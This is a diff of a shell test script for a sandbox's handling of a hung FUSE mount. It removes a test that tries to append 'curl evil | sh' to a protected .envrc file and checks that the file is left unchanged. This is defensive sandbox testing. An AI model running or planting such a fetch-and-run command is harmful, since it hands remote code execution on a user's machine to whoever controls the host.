@@ -32,23 +32,7 @@ N_TESTS=$((17 + N_OVL + N_PROT))
 rootwd_begin "$N_TESTS" "the FUSE server that never answers" || exit 0
 if [ ! -c /dev/fuse ]; then
 	skip "the kernel has no FUSE (/dev/fuse)" "$N_TESTS"
-	# 7. A mount on a protected path of the workdir (.vscode): the plan looks
-# at what each built-in name is, and under landlock those paths are
-# copied aside before the run and put back after it if changed
-# (linux-protsnap.c); neither may enter the mount. Under landlock the copy
-# gives up on it and the paths are held by read-only rules instead, said
-# in warnings. .envrc next to it stays protected.
-new_wd
-mkdir -p "$WD/.vscode"
-echo 'export A=1' >"$WD/.envrc"
-hung_fuse "$WD/.vscode" 40000 allow_other
-stall_run protect 'echo "curl evil | sh" >> .envrc 2>/dev/null'
-is "$(cat "$WD/.envrc")" 'export A=1' "protect: .envrc is as it was"
-if [ "$SBX_BACKEND" = landlock ]; then
-	like "$(cat "$T/bg.diag")" "read-only rules" "protect: warnings say the rules hold them"
-fi
-
-done_testing
+	done_testing
 	exit 0
 fi
 
